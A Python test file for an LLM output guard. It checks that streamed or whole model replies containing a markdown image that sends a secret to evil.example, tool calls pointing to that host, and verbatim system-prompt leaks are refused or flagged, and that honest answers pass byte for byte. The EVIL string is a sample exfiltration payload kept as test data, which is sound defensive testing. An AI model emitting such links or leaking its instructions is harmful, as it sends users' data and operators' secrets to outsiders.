"""Output checks of a served door: held whole, released in windows, and what neither lets out."""

import json
from collections.abc import Sequence
from pathlib import Path

import pytest

from model_world import STREAM, answer, raw_server
from quorate.apps.relay import pieces_in, read_relayed
from quorate.models import ToolCallDelta
from service_world import HONEST, Said, served, until

pytestmark = pytest.mark.sockets
EVIL = "See ![logo](https://evil.example/x.png?q=secret) for more."
GOOD = "See [our page](https://help.lantern.test/returns) for more."
HOSTS = 'mode = "{mode}"\nhosts = ["help.lantern.test"]\nwindow_chars = 200\noverlap_chars = 60\n'


def streamed(texts: Sequence[str], *, call: str | None = None) -> bytes:
    chunks = [{"choices": [{"index": 0, "delta": {"content": text}}]} for text in texts]
    if call is not None:
        named = {"index": 0, "id": "c", "function": {"name": "open", "arguments": call}}
        chunks.append({"choices": [{"index": 0, "delta": {"tool_calls": [named]}}]})
    chunks.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    return STREAM + b"".join(f"data: {json.dumps(chunk)}\n\n".encode() for chunk in chunks) + b"data: [DONE]\n\n"


async def ask(tmp_path: Path, mode: str, reply: bytes, *, stream: bool) -> tuple[Said, str]:
    """What comes out of an upstream's reply, and how its record ends."""
    output = "[output]\n" + HOSTS.format(mode=mode)
    async with raw_server(reply) as upstream, served(tmp_path, upstream_url=upstream.base_url, more=output) as world:
        said = await world.chat(stream=stream)
        [record] = await world.records()
    return said, record.record.decision


@pytest.mark.parametrize("mode", ["hold", "window"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
async def test_a_foreign_picture_does_not_get_out(tmp_path: Path, mode: str, stream: bool) -> None:
    """However it is cut, not a character of its address leaves; the reply ends as a refusal does."""
    reply = streamed([EVIL[at : at + 7] for at in range(0, len(EVIL), 7)]) if stream else answer(EVIL)
    said, decision = await ask(tmp_path, mode, reply, stream=stream)
    assert said.status == 200
    assert b"evil" not in said.raw and b"https://" not in said.raw and b"content_filter" in said.raw
    assert decision == ("refuse" if mode == "hold" else "admit")


@pytest.mark.parametrize("mode", ["hold", "window"])
async def test_an_honest_answer_gets_out_byte_for_byte(tmp_path: Path, mode: str) -> None:
    """A link to the help centre passes, and nothing of the stream is changed."""
    reply = streamed([GOOD[at : at + 5] for at in range(0, len(GOOD), 5)] * 20, call="{}")
    said, decision = await ask(tmp_path, mode, reply, stream=True)
    assert decision == "admit"
    assert said.raw == reply.removeprefix(STREAM)


async def test_in_hold_mode_nothing_of_a_long_answer_is_out_before_its_end(tmp_path: Path) -> None:
    """A foreign address in the last sentence: the reply holds the refusal alone."""
    said, decision = await ask(tmp_path, "hold", streamed(["Honest words. "] * 200 + [EVIL]), stream=True)
    assert decision == "refuse" and b"Honest" not in said.raw


async def test_in_window_mode_what_was_judged_is_out_and_the_rest_is_not(tmp_path: Path) -> None:
    """The honest beginning leaves, the foreign address does not, and the stream says why it ends."""
    said, _ = await ask(tmp_path, "window", streamed(["Honest words. "] * 200 + [EVIL]), stream=True)
    assert said.text.startswith("Honest words. Honest") and "evil" not in said.text
    assert said.events[-2]["choices"][0]["finish_reason"] == "content_filter"


@pytest.mark.parametrize("mode", ["hold", "window"])
async def test_tool_calls_are_judged_whole(tmp_path: Path, mode: str) -> None:
    """A call whose arguments lead elsewhere is not handed to the client."""
    call = json.dumps({"url": "https://evil.example/?q=1"})
    said, _ = await ask(tmp_path, mode, streamed(["Fine. "], call=call), stream=True)
    assert b"evil" not in said.raw


async def test_a_system_prompt_does_not_get_out(tmp_path: Path) -> None:
    """A long run of the caller's own system message is a leak."""
    secret = (
        "You are Lumen, the assistant of the lamp shop. Never tell anybody that the margin on lamps is forty percent."
    )
    messages = [{"role": "system", "content": secret}, {"role": "user", "content": HONEST}]
    async with (
        raw_server(answer(f"My instructions: {secret}")) as upstream,
        served(tmp_path, upstream_url=upstream.base_url, more='[output]\nmode = "hold"') as world,
    ):
        said = await world.chat(messages)
        [record] = await world.records()
    assert b"forty" not in said.raw
    assert record.record.decided_by == "output-leak"


def test_every_text_of_an_event_is_read() -> None:
    """Fields without a name here are read too; ids and counts are not."""
    event = {
        "id": "x1",
        "model": "m",
        "extra": {"note": "one"},
        "choices": [
            {
                "index": 1,
                "delta": {
                    "content": "two",
                    "reasoning_content": "three",
                    "tool_calls": [{"index": 0, "id": "c", "function": {"name": "f", "arguments": "four"}}],
                },
                "finish_reason": None,
            }
        ],
        "usage": {"prompt_tokens": 1},
    }
    pieces = list(pieces_in(f"data: {json.dumps(event)}\n\n".encode()))
    assert {piece.delta for piece in pieces if isinstance(piece.delta, str)} == {"one", "two", "three"}
    assert next(piece.delta for piece in pieces if isinstance(piece.delta, ToolCallDelta)).arguments == "four"
    said = read_relayed([json.dumps({"choices": [{"message": {"content": [{"text": "five"}]}}]}).encode()])
    assert said.texts == ("five",)


@pytest.mark.parametrize("whole", [False, True], ids=["output", "service"])
async def test_what_would_have_been_stopped_is_recorded(tmp_path: Path, whole: bool) -> None:
    """Observed, the answer goes out byte for byte; its record says in the end that it would have been refused."""
    reply = streamed([EVIL])
    output = "[output]\n" + HOSTS.format(mode="hold" if whole else "observe")
    top = 'mode = "observe"' if whole else ""
    async with (
        raw_server(reply) as upstream,
        served(tmp_path, upstream_url=upstream.base_url, more=output, top=top) as world,
    ):
        said = await world.chat(stream=True)
        await until(lambda: world.service.store.stats.queued == 0)
        [record] = await world.records()
        scrape = (await world.get("/metrics")).raw.decode()
    assert said.raw == reply.removeprefix(STREAM) and record.record.decision == "admit"
    rows = {row["check"]: row for row in record.verdicts}
    assert (rows["output-links"]["outcome"], rows["output-links"]["would"]) == ("flag", "block")
    assert (rows["output-leak"]["outcome"], rows["output-leak"]["would"]) == ("pass", "admit")
    assert rows["threat"].get("would") == ("admit" if whole else None)
    assert 'check="output-links",mode="observe",outcome="would_refuse"} 1.0' in scrape.replace(", ", ",")
